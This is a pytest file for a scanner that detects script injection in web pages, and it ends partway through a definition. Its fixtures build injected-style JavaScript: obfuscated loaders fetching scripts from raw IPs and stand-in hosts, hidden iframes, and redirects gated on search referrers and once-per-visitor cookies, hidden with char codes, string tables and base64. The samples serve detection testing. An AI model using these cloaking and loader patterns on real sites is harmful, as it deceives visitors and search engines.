"""Script injection detectors (SEO301 obfuscation, SEO302 foreign resources, SEO303 redirects).

Example files under tests/examples/script_injection/ carry their expectation in a comment
(``<!-- expect: SEO301 high high -->`` or ``<!-- expect: none -->``): injected loaders,
cloaking and miners next to the legitimate snippets that use the same tools (tag managers,
pixels, ad and consent loaders, legacy ``document.write(unescape(...))`` analytics, e-mail
protectors, frame-busting, same-site mobile redirects, minified bundles).
"""

from __future__ import annotations

import base64
import math
import re

import pytest

from conftest import CORPUS, EXAMPLES, run_detectors, weight
from detector.detectors.script_injection import (
    ForeignResource, ObfuscatedScript, RedirectCloaking, decode_layers, host_shape, is_known_domain,
    known_domains, parse_known_hosts, script_intents, strong_shape, unpack_packer,
)
from detector.page import page_from_file, page_from_text
from detector.scoring import CONFIDENCE_WEIGHT, SEVERITY_WEIGHT

DETECTORS = (ObfuscatedScript(), ForeignResource(), RedirectCloaking())
EXAMPLE_FILES = sorted((EXAMPLES / "script_injection").glob("*.html"))


def run(page):
    return run_detectors(DETECTORS, page)


def test_examples_present():
    names = [p.name for p in EXAMPLE_FILES]
    assert sum(n.startswith("bad_") for n in names) >= 8
    assert sum(n.startswith("okay_") for n in names) >= 6


@pytest.mark.parametrize("path", EXAMPLE_FILES, ids=lambda p: p.stem)
def test_example(path):
    page = page_from_file(str(path))
    findings, feats = run(page)
    m = re.search(r"<!-- expect: ([^-]+?) -->", page.source)
    assert m
    parts = m.group(1).split()
    if parts == ["none"]:
        strong = [f for f in findings if weight(f) >= 0.15]
        assert not strong, [f.message for f in strong]
        return
    fid, sev, conf = parts
    mine = [f for f in findings if f.id == fid]
    assert mine, f"no {fid} finding"
    assert max(weight(f) for f in mine) >= SEVERITY_WEIGHT[sev] * CONFIDENCE_WEIGHT[conf] - 1e-9, \
        [(f.severity, f.confidence, f.message) for f in mine]
    for f in findings:
        assert f.kind == "script_injection"
        assert f.evidence.get("where") in ("script", "html")
        assert len(str(f.evidence.get("snippet", ""))) <= 300


def test_known_hosts_file_parses():
    known = known_domains()
    assert len(known) > 300
    for d in ("googletagmanager.com", "google-analytics.com", "facebook.net", "youtube.com", "doubleclick.net",
              "cookielaw.org", "jsdelivr.net", "disqus.com", "stripe.com", "recaptcha.net", "openstreetmap.org"):
        assert d in known, d
    # every entry is a registered domain, not a host or a comment
    assert all(" " not in d and "#" not in d and "." in d for d in known)
    assert is_known_domain("d1x2y3.cloudfront.net")  # under a listed private suffix
    assert is_known_domain("a248.e.akamai.net")
    assert not is_known_domain("qwxzkrt.top")


def test_parse_known_hosts_normalises_entries():
    raw = "# CDNs\ncdn.example-cdn.com  # a host, means its site\nWWW.Foo.co.uk\n\n  # nothing\nbar.org\n"
    assert parse_known_hosts(raw) == frozenset({"example-cdn.com", "foo.co.uk", "bar.org"})


def test_host_shapes():
    assert strong_shape(host_shape("185.22.1.9")) == 1
    assert host_shape("192.168.1.20") == ("private IP address",)
    assert strong_shape(host_shape("qwxzkrtpl.top")) == 1 and "random-looking name" in host_shape("qwxzkrtpl.top")
    assert host_shape("www.wikipedia.org") == ()
    assert strong_shape(host_shape("brightspotcdn.com")) == 0


def test_decoders():
    payload = "document.write('<script src=\"http://185.1.2.3/x.js\"></scr'+'ipt>')"
    js = f'eval(atob("{base64.b64encode(payload.encode()).decode()}"))'
    payloads, techs = decode_layers(js)
    assert "base64" in techs and any("185.1.2.3" in p for p in payloads)
    codes = ",".join(str(ord(c)) for c in "top.location='http://a.top/'")
    payloads, techs = decode_layers(f"eval(String.fromCharCode({codes}))")
    assert "fromCharCode" in techs and any("a.top" in p for p in payloads)
    assert unpack_packer("0 1=2", 36, 3, "var|x|5") == "var x=5"


def test_intents_ignore_same_site_and_known_hosts():
    site = "example-news.com"
    assert not script_intents("document.write('<script src=\"https://www.google-analytics.com/ga.js\"></script>')", site)
    assert not script_intents("window.location.href = 'https://m.example-news.com/a';", site)
    assert not script_intents("if (top != self) { top.location = self.location; }", site)
    its = script_intents("if (document.referrer.indexOf('google') > -1) location.replace('http://spam-shop.top/');", site)
    assert [i.kind for i in its] == ["referrer-cloak"] and its[0].domain == "spam-shop.top"
    # a regular expression literal is not a host
    assert not script_intents("var r = /^(?:[a-z]+:)?\\/\\//i.test(u); location.href = u;", site)


def test_text_record_features_are_nan():
    page = page_from_text("eval(atob('ZG9jdW1lbnQ=')) http://185.1.2.3/x.js", url="http://x.com/")
    findings, feats = run(page)
    assert not findings and feats and all(math.isnan(v) for v in feats.values())


@pytest.mark.parametrize("rel", ["pages/dragnet/R179.html", "pages/trafilatura/eval__cubadebate.cu-sesiona.html",
                                 "pages/cleaneval/final_232.html", "pages/htmldate/test_set__1628285861.html",
                                 "pages/readability/folha.html", "pages/dragnet/R405.html"])
def test_legitimate_obfuscation_on_clean_corpus_pages(shared_dir, rel):
    """Packers, e-mail protectors, an ad network's eval(atob) fallback, a same-site referrer
    redirect and TypePad's scripts after </html>: obfuscated or unusual, not injected."""
    page = page_from_file(str(CORPUS / rel), mode="html")
    findings, feats = run(page)
    assert not [f for f in findings if weight(f) >= 0.26], [f.message for f in findings]


@pytest.mark.parametrize("rel", ["pages/dragnet/R179.html", "pages/trafilatura/eval__cubadebate.cu-sesiona.html"])
def test_packer_is_a_feature_not_a_finding(shared_dir, rel):
    page = page_from_file(str(CORPUS / rel), mode="html")
    findings, feats = run(page)
    assert feats["SEO301.packer"] == 1.0 and feats["SEO301.obf_score"] > 0
    assert feats["SEO301.obf_with_intent"] == 0.0
    assert not [f for f in findings if f.id == "SEO301"]


def _html(body: str, head: str = "") -> str:
    return (f'<html><head><link rel="canonical" href="https://www.town-bakery.com/a">{head}</head>'
            f"<body><p>Fresh bread daily.</p>{body}</body></html>")


def test_tracking_pixel_iframe_is_a_feature_not_a_finding():
    page = page_from_text(_html('<iframe src="https://pixel.adtracker-co.com/p?id=1" width="1" height="1"></iframe>'),
                          mode="html")
    findings, feats = run(page)
    assert not findings
    assert feats["SEO302.tiny_hidden_iframes_log"] > 0
    assert feats["SEO302.tiny_foreign_iframe_suspicious"] == 0.0


def test_slow_meta_refresh_to_another_site_is_a_feature():
    page = page_from_text(_html("", '<meta http-equiv="refresh" content="10; url=https://www.new-bakery-site.com/">'),
                          mode="html")
    findings, feats = run(page)
    assert not findings
    assert feats["SEO303.meta_refresh_foreign"] == 1.0 and feats["SEO303.meta_refresh_fast"] == 0.0


def test_plain_navigation_to_another_site_is_a_feature():
    page = page_from_text(_html("<script>function go(){ window.location.href = 'https://www.partner-mill.com/'; }</script>"),
                          mode="html")
    findings, feats = run(page)
    assert not findings and feats["SEO303.js_redirect_foreign"] == 1.0


def test_seed_text_record(shared_dir):
    from conftest import SEED
    page = page_from_text(SEED.read_text("utf-8", errors="replace"))
    findings, feats = run(page)
    assert not findings and all(math.isnan(v) for v in feats.values())


# --- signals added for held-out styles: each positive next to its near-miss ----------------

def test_hidden_iframe_to_a_throwaway_host_is_high_and_to_an_ordinary_one_is_a_feature():
    bad = page_from_text(_html('<iframe src="https://www.kqzx-meds.tk/" height="0" width="0" '
                               'style="position:absolute;top:-999px"></iframe>'), mode="html")
    findings, _ = run(bad)
    f = max((f for f in findings if f.id == "SEO302"), key=weight)
    assert (f.severity, f.confidence) == ("high", "high") and f.evidence["domain"] == "kqzx-meds.tk"
    okay = page_from_text(_html('<iframe src="https://sync.adnetwork-partner.com/s" height="0" width="0" '
                                'style="display:none"></iframe>'), mode="html")
    findings, feats = run(okay)
    assert not findings and feats["SEO302.tiny_hidden_iframes_log"] > 0


def test_loader_from_a_cheap_tld_alone_is_a_feature_but_with_a_raw_ip_is_high():
    loader = ('<script>(function(d,s){{var x=d.createElement(s);x.async=1;x.src="{}/t.js?"+Math.random();'
              'd.getElementsByTagName("head")[0].appendChild(x)}})(document,"script");</script>')
    weak = page_from_text(_html(loader.format("https://widgets.recommend.cc")), mode="html")
    findings, feats = run(weak)
    assert not findings and feats["SEO302.writes_foreign_resource"] == 1.0
    strong = page_from_text(_html(loader.format("http://185.234.72.19:8081")), mode="html")
    findings, _ = run(strong)
    assert max(weight(f) for f in findings) >= 0.6


def test_cookie_gated_redirect_is_recognised_and_weak_to_an_ordinary_domain():
    gated = ('<script>if(document.cookie.indexOf("seen")==-1){document.cookie="seen=1";'
             'if(/iPad|Android/i.test(navigator.userAgent)){location.href="https://tablet-edition-service.com/r"}}</script>')
    findings, feats = run(page_from_text(_html(gated), mode="html"))
    assert feats["SEO303.cookie_gated"] == 1.0
    assert findings and max(weight(f) for f in findings) <= 0.16
    plain = '<script>if(/iPad|Android/i.test(navigator.userAgent)){location.href="https://tablet-edition-service.com/r"}</script>'
    findings, feats = run(page_from_text(_html(plain), mode="html"))
    assert not findings and feats["SEO303.cookie_gated"] == 0.0


# --- injections to ordinary-looking hosts: placement, entry pages, loaders (each next to its near-miss)

from detector.detectors.script_injection import _edge, _entry_kind, analyse  # noqa: E402


def _seo302(page):
    findings, feats = run(page)
    return [f for f in findings if f.id == "SEO302"], feats


def test_entry_kind_tells_a_home_page_from_a_vendor_endpoint():
    assert _entry_kind("https://www.example-shop.com") == "home page"
    assert _entry_kind("https://example-shop.com/?ref=abc") == "home page"
    assert _entry_kind("http://example-shop.com/index.php") == "home page"
    assert _entry_kind("http://example-shop.com/in.php?x=1") == "entry script"
    assert _entry_kind("https://sync.vendor.com/receiver.html?id=1") == "entry script"  # judged with the host and query
    assert _entry_kind("https://www.googletagmanager.com/ns.html?id=GTM-X") == "entry script"
    assert _entry_kind("https://creativecdn.com/tags/v2/frame.html") == ""
    assert _entry_kind("https://vendor.com/static/mg/v3.html#x") == ""


def test_edge_is_the_start_of_the_body_or_the_end_of_the_document():
    src = '<html><body>\n<div class="w"><iframe src="x"></iframe></div><p>text</p></body></html>'
    i = src.find("<iframe")
    assert _edge(src, i, src.find("</iframe>") + 9) == "first in the body"
    src = '<html><body><p>text</p>\n<iframe src="x"></iframe></div></body>\n<!-- cached --></html>\n'
    i = src.find("<iframe")
    assert _edge(src, i, src.find("</iframe>") + 9) == "end of the document"
    src = '<html><body><p>text</p><iframe src="x"></iframe><p>more</p></body></html>'
    i = src.find("<iframe")
    assert _edge(src, i, src.find("</iframe>") + 9) == ""


FRAME = '<iframe src="{}" width="1" height="1" style="border:0;opacity:0"></iframe>'


def test_hidden_frame_of_a_home_page_is_a_finding_and_stronger_when_signals_agree():
    # at the end of the body, host named nowhere else: high/medium
    mine, feats = _seo302(page_from_text(_html(FRAME.format("https://www.copperfield-goods.com/")), mode="html"))
    assert [(f.severity, f.confidence) for f in mine] == [("high", "medium")]
    assert mine[0].evidence["placement"] and mine[0].evidence["domain"] == "copperfield-goods.com"
    assert feats["SEO302.hidden_frame_entry"] == 1.0 and feats["SEO302.hidden_frame_entry_once_edge"] == 1.0
    # the same frame in the middle of the content, the host also linked from the page: weak
    body = ('<p><a href="https://copperfield-goods.com/shop">our supplier</a></p>'
            + FRAME.format("https://www.copperfield-goods.com/") + "<p>Open daily from seven.</p>")
    mine, feats = _seo302(page_from_text(_html(body), mode="html"))
    assert [(f.severity, f.confidence) for f in mine] == [("medium", "low")]
    assert feats["SEO302.hidden_frame_once"] == 0.0 and feats["SEO302.hidden_frame_entry_once_edge"] == 0.0


def test_hidden_frame_of_a_vendor_endpoint_is_not_a_finding():
    for url in ("https://sync.copperfield-goods.com/",  # a service subdomain
                "https://copperfield-goods.com/tags?id=pr_YdtZloFswVQIQNkjZoci",  # a per-customer endpoint
                "https://copperfield-goods.com/lib/js/xdc/xdc.html"):  # a path that names the widget
        mine, feats = _seo302(page_from_text(_html(FRAME.format(url)), mode="html"))
        assert not mine, url
        assert feats["SEO302.tiny_hidden_iframes_log"] > 0
    # a one-word endpoint of a vendor whose script is on the page too
    body = '<script src="https://tb.copperfield-goods.com/d7.js" async></script>' + FRAME.format("http://copperfield-goods.com/cm")
    assert not _seo302(page_from_text(_html(body), mode="html"))[0]
    # the same one-word endpoint alone: weak, medium at most
    mine, _ = _seo302(page_from_text(_html(FRAME.format("http://copperfield-goods.com/cm")), mode="html"))
    assert mine and max(weight(f) for f in mine) <= 0.27


LOADER = ('<script>(function(d,s){{var x=d.createElement(s);x.async=1;x.src="{}"+Math.random();'
          'd.getElementsByTagName("head")[0].appendChild(x)}})(document,"script");</script>')


def test_cache_busted_loader_without_identifier_is_a_finding_and_with_one_is_not():
    mine, feats = _seo302(page_from_text(_html(LOADER.format("http://www.copperfield-goods.com/go/t.js?")), mode="html"))
    assert [(f.severity, f.confidence) for f in mine] == [("high", "medium")]  # last thing in the body
    assert feats["SEO302.loader_agreement"] == 1.0 and feats["SEO302.foreign_at_edge"] == 1.0
    # in the head, not at an edge: medium
    page = page_from_text(_html("", LOADER.format("http://www.copperfield-goods.com/go/t.js?")), mode="html")
    assert [(f.severity, f.confidence) for f in _seo302(page)[0]] == [("medium", "medium")]
    # a per-customer tag: an id in the URL, or concatenated after the random value
    for url in ("http://copperfield-goods.com/show/?id=7146&r=", "//copperfield-goods.com/s/1841f3500cd60b516f19.js?"):
        mine, feats = _seo302(page_from_text(_html(LOADER.format(url)), mode="html"))
        assert not mine and feats["SEO302.loader_agreement"] == 0.75, url
    # a service subdomain, or a host preconnected elsewhere on the page
    assert not _seo302(page_from_text(_html(LOADER.format("https://cdn.copperfield-goods.com/t.js?")), mode="html"))[0]
    head = '<link rel="preconnect" href="https://copperfield-goods.com">'
    assert not _seo302(page_from_text(_html(LOADER.format("https://copperfield-goods.com/t.js?"), head), mode="html"))[0]


def test_library_named_script_from_an_unrelated_host_is_weak_evidence():
    tag = '<script src="{}"></script>'
    mine, feats = _seo302(page_from_text(_html("", tag.format("https://copperfield-goods.com/js/jquery.min.js?v=5")),
                                         mode="html"))
    assert [(f.severity, f.confidence) for f in mine] == [("medium", "low")]
    assert feats["SEO302.library_name_foreign_src"] == 1.0
    for url in ("https://code.jquery.com/jquery-3.6.0.min.js",  # a listed CDN
                "https://static.town-bakery.com/js/jquery.min.js",  # the site's own host
                "https://copperfield-goods.com/js/widget.min.js"):  # not a library's name
        mine, feats = _seo302(page_from_text(_html("", tag.format(url)), mode="html"))
        assert not mine and feats["SEO302.library_name_foreign_src"] == 0.0, url


@pytest.mark.parametrize("rel", [
    "pages/aeb/ff0f958ade714ebfaf5c0b42b1c0152a62063f4e6f72141406ccefc4a2677f21.html",  # ad loader, id after the random
    "pages/zyte-product/2fa16d14a9e343cca43ccf01e9ef9103ebac2f38640bd0c2844befeed91f54ca.html",  # /tags?id=pr_... frame
    "pages/zyte-product/4595f2ae9fd95efa0bc0b051a2ea76b4f2aaf94b6f355bf8d16139af17bf6e88.html",
    "pages/autopager/56.html",  # http://de17a.com/cm frame, the vendor's script on the page too
    "pages/zyte-product/4b3a17058e7269c6361af74db8c66dfc2bb1d813e1be6ee596f3270069084d7a.html",  # plugin.management/info
    "pages/dragnet/T19.html",  # jQuery from Google Code
])
def test_vendor_frames_and_loaders_on_clean_corpus_pages(shared_dir, rel):
    page = page_from_file(str(CORPUS / rel), mode="html")
    assert analyse(page).tiny_frames or analyse(page).intents or page.scripts
    mine, _ = _seo302(page)
    # (autopager/56 has an older, unrelated raw-IP script finding: only placement findings count here)
    mine = [f for f in mine if "placement" in f.evidence]
    assert not mine, [f.message for f in mine]


def _with_script(rel: str, script: str):
    html = (CORPUS / rel).read_text("utf-8", errors="replace")
    i = html.lower().rfind("</body")
    return page_from_text(html[:i] + script + html[i:], mode="html", url="http://www.apa.org/science/ttrr.html")


def test_redirect_of_every_visitor_at_load_is_weak_evidence_and_a_user_action_is_none(shared_dir):
    rel = "pages/cleaneval/final_232.html"
    at_load = '<script>setTimeout(function(){top.location.replace("https://www.meadowbrook-supply.net/index.php")},0);</script>'
    findings, feats = run(_with_script(rel, at_load))
    mine = [f for f in findings if f.id == "SEO303"]
    assert [(f.severity, f.confidence) for f in mine] == [("medium", "low")]
    assert feats["SEO303.redirect_at_load"] == 1.0
    for script in ('<script>function go(){ top.location.replace("https://www.meadowbrook-supply.net/"); }</script>',
                   '<script>if (screen.width < 600) { location.href = "https://www.meadowbrook-supply.net/"; }</script>',
                   '<script>document.getElementById("b").onclick = function(){ location.href = "https://www.meadowbrook-supply.net/"; };</script>'):
        findings, feats = run(_with_script(rel, script))
        assert not [f for f in findings if f.id == "SEO303"], script
        assert feats["SEO303.redirect_at_load"] == 0.0 and feats["SEO303.js_redirect_foreign"] == 1.0
    # a moved page's stub (next to no content of its own) is not evidence
    stub = page_from_text(_html('<script>window.location.replace("https://www.meadowbrook-supply.net/");</script>'), mode="html")
    findings, feats = run(stub)
    assert not findings and feats["SEO303.redirect_at_load"] == 1.0


def test_script_from_a_bare_cheap_tld_host_named_once_is_weak_evidence():
    tag = '<script type="text/javascript" src="{}"></script>'
    mine, _ = _seo302(page_from_text(_html("", tag.format("https://fernhill-goods.site/js/c.js?v=12")), mode="html"))
    assert [(f.severity, f.confidence) for f in mine] == [("medium", "low")]
    assert "named nowhere else" in mine[0].message
    # last thing in the body: medium/medium
    mine, _ = _seo302(page_from_text(_html(tag.format("https://fernhill-goods.site/js/c.js?v=12")), mode="html"))
    assert [(f.severity, f.confidence) for f in mine] == [("medium", "medium")]
    # a service subdomain on a cheap TLD, or a host the page names elsewhere: a feature only
    for url, head in (("https://w3.mp.fernhill-goods.live/player/anvload.js?ver=3", ""),
                      ("https://fernhill-goods.site/js/c.js", '<link rel="preconnect" href="https://fernhill-goods.site">')):
        mine, feats = _seo302(page_from_text(_html("", head + tag.format(url)), mode="html"))
        assert not mine and feats["SEO302.suspicious_script_hosts"] > 0, url


def test_meta_refresh_within_seconds_from_a_page_with_content_is_weak_evidence(shared_dir):
    rel = "pages/trafilatura/eval__dtb.de-kulturwandel.html"
    html = (CORPUS / rel).read_text("utf-8", errors="replace")
    i = html.lower().find("</head")
    meta = '<meta http-equiv="refresh" content="3;url=https://www.meadowbrook-supply.net/">'
    findings, feats = run(page_from_text(html[:i] + meta + html[i:], mode="html"))
    mine = [f for f in findings if f.id == "SEO303"]
    assert [(f.severity, f.confidence) for f in mine] == [("medium", "low")]
    # the same refresh on a moved page's stub: a feature
    findings, feats = run(page_from_text(_html("", meta), mode="html"))
    assert not findings and feats["SEO303.meta_refresh_foreign"] == 1.0 and feats["SEO303.meta_refresh_fast"] == 1.0


# --- obfuscated literals resolved in place: char-code arrays, escapes, string tables, gates ----

from detector.detectors.script_injection import (  # noqa: E402
    GATE_CRAWLER, GATE_DELAY, GATE_ONCE, GATE_SEARCH, _gates, codes_to_text, resolve_code,
)


def _codes(s: str, fmt: str = "{}") -> str:
    return ",".join(fmt.format(ord(c)) for c in s)


def _hex(s: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in s)


def _table(entries, esc=_hex) -> str:
    return ",".join("'" + esc(e) + "'" for e in entries)


def test_codes_to_text_wants_printable_words():
    assert codes_to_text(_codes("https://a.example/x")) == "https://a.example/x"
    assert codes_to_text(_codes("location", "0x{:x}")) == "location"
    assert codes_to_text("1,2,3,4,5,6,7,8") is None  # control codes: a lookup table
    assert codes_to_text("200,300,400,500,600,700,800,900") is None
    assert codes_to_text(_codes("+-*/=<>!?")) is None  # punctuation, not words


def test_resolve_code_decodes_literals_in_place():
    res = resolve_code(f"var u=d([{_codes('https://a.example/')}]);x=String.fromCharCode({_codes('hello world')});")
    assert res and "char-code array" in res.techniques
    assert "'https://a.example/'" in res.code and "'hello world'" in res.code
    # escapes decode, except into a quote or a backslash (the literal's end stays where it is)
    res = resolve_code("var s='" + _hex("src") + "\\x27';")
    assert res.code == "var s='src\\x27';"
    # a string table read by index, and computed members written as properties
    js = f"var _t=[{_table(['createElement', 'script', 'https://b.example/j.js'])}];var e=document[_t[0x0]](_t[1]);e.src=_t[2];"
    res = resolve_code(js)
    assert "string table" in res.techniques
    assert "document.createElement('script')" in res.code and "e.src='https://b.example/j.js'" in res.code
    # through an accessor that subtracts an offset, and after a rotation by a literal count
    js = (f"var _a=[{_table(['x', 'location', 'href'])}];(function(a,n){{var f=function(k){{while(--k){{a['push'](a['shift']());}}}};f(++n);}}(_a,0x1));"
          "var _g=function(i,k){i=i-0x2;var v=_a[i];return v;};window[_g('0x2')][_g('0x3')]='https://c.example/';")
    assert "window.location.href='https://c.example/'" in resolve_code(js).code
    assert resolve_code("var a = [1, 2, 3]; f(a);") is None  # nothing encoded


def test_gates_recognise_how_injections_hide():
    assert _gates("if(/google|bing/i.test(document.referrer)){go()}") == (GATE_SEARCH,)
    # a host name or a crawler's name next to the referrer is no engine test
    assert GATE_SEARCH not in _gates("var r=document.referrer;load('https://www.googletagmanager.com/gtm.js')")
    assert GATE_SEARCH not in _gates("var r=document.referrer;var bots=['googlebot','bingbot'];")
    assert _gates("if(!/bot|spider/i.test(navigator.userAgent)){go()}") == (GATE_CRAWLER,)
    # once per visitor: a marker read *and* set; reading a consent cookie is not
    assert _gates("if(document.cookie.indexOf('_v=')<0){document.cookie='_v=1';go()}") == (GATE_ONCE,)
    assert _gates("if(document.cookie.indexOf('consent=1')>-1){load()}") == ()
    assert _gates("if(!localStorage.getItem('k')){localStorage.setItem('k',1);setTimeout(go,900)}") == (GATE_ONCE, GATE_DELAY)


def _page(script: str):
    return page_from_text(_html(f"<script>{script}</script><p>Rye, spelt and seeded loaves every morning.</p>"), mode="html")


def _best(page, fid):
    findings, _ = run(page)
    mine = [f for f in findings if f.id == fid]
    return max(mine, key=weight) if mine else None


CLOAKED = {
    # char codes in hex, written out by document.write only for searchers, once
    "hex_codes_docwrite": lambda url: (
        f"var c=[{_codes('<script src=' + chr(34) + url + chr(34) + '></scr', '0x{:x}')}];"
        "if(/google|yahoo|bing/i.test(document.referrer)&&document.cookie.indexOf('_dw')==-1){document.cookie='_dw=1';"
        "document.write(String.fromCharCode.apply(null,c)+'ipt>')}"),
    # a string table with an iframe, for humans only, once per session
    "table_iframe": lambda url: (
        f"var _x=[{_table(['createElement', 'iframe', 'src', url, 'appendChild', 'userAgent', 'sessionStorage'])}];"
        "if(!/bot|crawler|spider/i.test(navigator[_x[5]])&&!window[_x[6]].getItem('f')){window[_x[6]].setItem('f',1);"
        "var f=document[_x[0]](_x[1]);f[_x[2]]=_x[3];f.width=0;document.body[_x[4]](f)}"),
    # \u-escaped table, a delayed top.location for visitors from a search engine
    "unicode_table_top_location": lambda url: (
        f"var _k=[{_table(['referrer', 'location', 'href', url], lambda s: ''.join(f'{chr(92)}u{ord(c):04x}' for c in s))}];"
        "if(document[_k[0]].match(/google\\.|bing\\.|yandex\\./)){setTimeout(function(){top[_k[1]][_k[2]]=_k[3]},2000)}"),
}


@pytest.mark.parametrize("shape", sorted(CLOAKED))
def test_obfuscated_gated_actions_are_found_and_graded_by_agreement(shape):
    f = _best(_page(CLOAKED[shape]("https://www.lorvexa-deals.com/in")), "SEO301")
    assert f is not None and (f.severity, f.confidence) == ("high", "high"), f
    assert f.evidence["domain"] == "lorvexa-deals.com"
    # the same code aimed at the site itself, a sister site or a listed third party: nothing
    for url in ("https://static.town-bakery.com/in", "https://town-bakery.de/in", "https://www.googletagmanager.com/gtm.js"):
        findings, _ = run(_page(CLOAKED[shape](url)))
        assert not [x for x in findings if weight(x) >= 0.15], (url, [x.message for x in findings])


def test_obfuscated_loader_without_gates_is_no_finding_and_one_gate_is_medium():
    entries = ["createElement", "script", "src", "https://widget.parlorchat-help.com/l.js", "appendChild"]
    body = "var s=document[_w[0]](_w[1]);s[_w[2]]=_w[3];document.head[_w[4]](s);"
    findings, feats = run(_page(f"var _w=[{_table(entries)}];{body}"))
    assert not findings  # a vendor's minified widget loading from its own host
    capped = f"var _w=[{_table(entries)}];if(document.cookie.indexOf('_pc=')<0){{document.cookie='_pc=1';{body}}}"
    f = _best(_page(capped), "SEO301")
    assert (f.severity, f.confidence) == ("medium", "medium")  # a frequency cap looks the same
    delayed = f"var _w=[{_table(entries)}];setTimeout(function(){{{body}}},3000);"
    f = _best(_page(delayed), "SEO301")
    assert (f.severity, f.confidence) == ("medium", "low")


def test_string_table_behind_an_unresolvable_accessor_is_judged_by_its_vocabulary():
    def script(url):
        entries = ["location", "replace", url, "referrer", "google", "cookie", "_q=1"]
        return (f"var _v=[{_table(entries)}];(function(a,b){{while(!![]){{try{{var c=parseInt(a[0].length)*2;"
                "if(c===b)break;else a.push(a.shift());}catch(e){a.push(a.shift());}}}(_v,0x1f2));"
                "var _r=function(i){return _v[(i*7+3)%_v.length];};"
                "if(document[_r(4)].indexOf(_r(1))>-1&&document[_r(2)].indexOf(_r(6))<0){document[_r(2)]=_r(6);"
                "window[_r(0)][_r(5)](_r(3));}")

    f = _best(_page(script("https://prize-vault.example-win.com/r")), "SEO301")
    assert f is not None and (f.severity, f.confidence) == ("high", "medium")  # capped: lookups unresolved
    assert "string table" in f.message and f.evidence["domain"] == "example-win.com"
    # the same table with the site's own URL: nothing
    assert not run(_page(script("https://www.town-bakery.com/r")))[0]


def test_plain_loader_gated_on_search_referrer_is_weak_and_crawler_test_alone_is_none():
    loader = "var s=document.createElement('script');s.src='https://cdn.fernwood-stats.com/a.js';document.head.appendChild(s);"
    f = _best(_page(f"if(document.referrer.indexOf('google')>-1){{{loader}}}"), "SEO302")
    assert (f.severity, f.confidence) == ("medium", "low")
    f = _best(_page("if(document.referrer.indexOf('google')>-1&&!/bot/i.test(navigator.userAgent)"
                    f"&&document.cookie.indexOf('_f')<0){{document.cookie='_f=1';{loader}}}"), "SEO302")
    assert (f.severity, f.confidence) == ("high", "medium")
    # consent managers and widgets skip crawlers: a crawler test alone is no gate worth a finding
    findings, feats = run(_page(f"if(!/googlebot|bingbot/i.test(navigator.userAgent)){{{loader}}}var r=document.referrer;"))
    assert not findings and feats["SEO302.writes_foreign_resource"] == 1.0


def test_consent_manager_that_skips_crawlers_on_a_clean_corpus_page(shared_dir):
    page = page_from_file(str(CORPUS / "pages/trafilatura/eval__tarnkappe.info-Black.html"), mode="html")
    findings, _ = run(page)
    assert not findings, [f.message for f in findings]


def test_more_encodings_of_the_same_gated_redirect():
    url = "https://www.lorvexa-deals.com/in"
    gate = ("if(/google|bing/i.test(document.referrer)&&!localStorage._lv){localStorage._lv=1;"
            "setTimeout(function(){location.href=%s},800)}")
    b64 = base64.b64encode(url.encode()).decode()
    variants = {
        "codes in a string": "var d=function(s){return String.fromCharCode.apply(null,s.split(','))};" + gate % f"d('{_codes(url)}')",
        "base64 table": f"var _b=['{b64}','x','y'];var u=atob(_b[0]);" + gate % "u",
        "decoder called in place": "var h=function(a){return String.fromCharCode.apply(null,a)};" + gate % f"h([{_codes(url)}])",
        "split strings": gate % "'htt'+'ps://www.lorv'+'exa-deals.com/in'",
        "spelled letter by letter": gate % ("[" + ",".join(f"'{c}'" for c in url) + "].join('')"),
    }
    for name, js in variants.items():
        f = _best(_page(js), "SEO301")
        assert f is not None and (f.severity, f.confidence) == ("high", "high"), (name, f)
        assert f.evidence["domain"] == "lorvexa-deals.com", name


def test_split_strings_that_only_build_markup_are_not_findings():
    # '<scr'+'ipt src=...' and 'http'+'://'+host are how legitimate loaders have long been written
    findings, _ = run(_page("var d=document,s=d.createElement('script');s.src='http'+'://'+'widgets.fernwood-stats.com/a.js';"
                            "d.body.appendChild(s);document.write('<scr'+'ipt src=\"https://cdn.fernwood-stats.com/b.js\"></scr'+'ipt>');"))
    assert not findings, [f.message for f in findings]


def test_string_array_behind_a_wrapper_function_and_checksum_rotation():
    """A newer obfuscator layout: the table returned by a function, an accessor with an offset
    reading it through a local, and a rotation driven by a checksum: judged by vocabulary."""
    entries = ["createElement", "script", "src", "https://cdn.vexlor-metrics.xyz/s.js", "appendChild",
               "head", "referrer", "yahoo", "cookie"]
    js = (f"function _0xa1(){{var t=[{_table(entries)}];_0xa1=function(){{return t;}};return _0xa1();}}"
          "function _0xb2(a,b){var c=_0xa1();return _0xb2=function(d,e){d=d-0x1a0;var f=c[d];return f;},_0xb2(a,b);}"
          "(function(g,h){var i=_0xb2,j=g();while(!![]){try{var k=parseInt(i(0x1a3))/0x1;if(k===h)break;"
          "else j['push'](j['shift']());}catch(l){j['push'](j['shift']());}}}(_0xa1,0x5c1f2));"
          "(function(){var i=_0xb2;if(document[i(0x1a6)].indexOf(i(0x1a7))>-1&&document[i(0x1a8)].indexOf('_r=1')<0){"
          "document[i(0x1a8)]='_r=1';var s=document[i(0x1a0)](i(0x1a1));s[i(0x1a2)]=i(0x1a3);document[i(0x1a5)][i(0x1a4)](s);}})();")
    f = _best(_page(js), "SEO301")
    assert f is not None and f.severity == "high" and f.evidence["domain"] == "vexlor-metrics.xyz", f


def test_letters_joined_into_words_that_go_nowhere_foreign_are_not_findings():
    # an alphabet index and a same-site path built from letters: the trick without a target
    findings, _ = run(_page("var az=['a','b','c','d','e','f','g','h','i'].join('');"
                            "location.href='/glossary/'+az.charAt(0);"))
    assert not findings, [f.message for f in findings]


# --------------------------------------------------------------------------- loaders that hide their URL
# Each technique as a loader to an unrelated host next to near misses: the same code aimed at the
# site itself, a sister site or a listed CDN, and the honest snippets that use the same tricks
# (e-mail protectors, analytics snippets, old ad tags that split 'ht'+'tp://').

from detector.detectors.script_injection import (  # noqa: E402
    GATE_FLAG, GATE_OWNER, GATE_PHONES, SIGNAL_LEAK, Intent, _Tracer, agreement, resolved_tier,
)

OWN_AND_LISTED = ("https://static.town-bakery.com/js/app.js", "https://town-bakery.de/js/app.js",
                  "https://cdnjs.cloudflare.com/ajax/libs/app/1.0/app.js")


def _tier(script: str, fid: str = "SEO301"):
    f = _best(_page(script), fid)
    return (f.severity, f.confidence) if f is not None else None


def _nothing(script: str):
    findings, _ = run(_page(script))
    strong = [f for f in findings if weight(f) >= 0.15]
    assert not strong, [f.message for f in strong]


LOOP_DECODED = lambda url, flag=True: (  # noqa: E731
